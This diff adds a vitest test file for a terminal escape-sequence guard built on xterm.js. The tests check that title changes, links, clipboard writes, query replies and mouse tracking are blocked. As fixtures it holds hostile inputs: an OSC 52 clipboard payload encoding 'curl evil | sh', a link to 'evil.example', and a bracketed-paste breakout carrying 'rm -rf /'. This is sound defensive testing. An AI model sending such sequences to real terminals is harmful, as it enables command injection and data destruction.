@@ -1,0 +1,61 @@
+import { Terminal } from "@xterm/xterm";
+import { describe, expect, it } from "vitest";
+import { guard, guarded, pasteable } from "./guard";
+
+const write = (terminal: Terminal, text: string) => new Promise<void>((done) => terminal.write(text, done));
+
+interface Links {
+  extended?: { urlId: number };
+}
+
+async function shown(text: string, guards: boolean, answers = true) {
+  const terminal = new Terminal({ ...guarded, cols: 40, rows: 5 });
+  if (guards) guard(terminal, answers);
+  const seen = { titles: [] as string[], answers: [] as string[] };
+  terminal.onTitleChange((title) => seen.titles.push(title));
+  terminal.onData((data) => seen.answers.push(data));
+  await write(terminal, text);
+  const line = terminal.buffer.active.getLine(0);
+  const cell = line?.getCell(0) as unknown as Links | undefined;
+  const result = { ...seen, line: line?.translateToString(true) ?? "", link: (cell?.extended?.urlId ?? 0) > 0, mouse: terminal.modes.mouseTrackingMode };
+  terminal.dispose();
+  return result;
+}
+
+const title = "\x1b]0;root@host\x07\x1b]2;other\x1b\\";
+const link = "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\";
+const clipboard = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07";
+const asks = "\x1b[c\x1b[6n\x1b[>c\x1bP$qm\x1b\\\x1b]10;?\x07\x1b]4;1;?\x07";
+
+describe("guard", () => {
+  it("is needed: without it a box sets the title, makes links and gets answers", async () => {
+    expect((await shown(title, false)).titles).toEqual(["root@host", "other"]);
+    expect((await shown(link, false)).link).toBe(true);
+    expect((await shown(asks, false)).answers.length).toBeGreaterThan(2);
+    expect((await shown("\x1b[?1000h", false)).mouse).toBe("vt200");
+  });
+
+  it("lets nothing but text through", async () => {
+    expect((await shown(title + "x", true)).titles).toEqual([]);
+    expect(await shown(link, true)).toMatchObject({ link: false, line: "click" });
+    expect(await shown(clipboard + "x", true)).toMatchObject({ line: "x", answers: [] });
+  });
+
+  it("answers programs where somebody types, and not with what a box chose", async () => {
+    const answers = (await shown(asks, true)).answers.join("");
+    expect(answers).toContain("R");
+    expect(answers).not.toContain("$r");
+    expect(answers).not.toContain("rgb:");
+  });
+
+  it("answers nothing and follows no mouse where somebody watches", async () => {
+    expect(await shown(asks + "\x1b[?1003h\x1b[?1000;1006h", true, false)).toMatchObject({ answers: [], mouse: "none" });
+  });
+});
+
+describe("pasteable", () => {
+  it("takes out what would end a bracketed paste, and ends lines as a keyboard does", () => {
+    expect(pasteable("a\x1b[201~;rm -rf /\nb\r\nc\td")).toBe("a[201~;rm -rf /\rb\rc\td");
+    expect(pasteable("ü \u{1f600}\u009b6n\u0000")).toBe("ü \u{1f600}6n");
+  });
+});
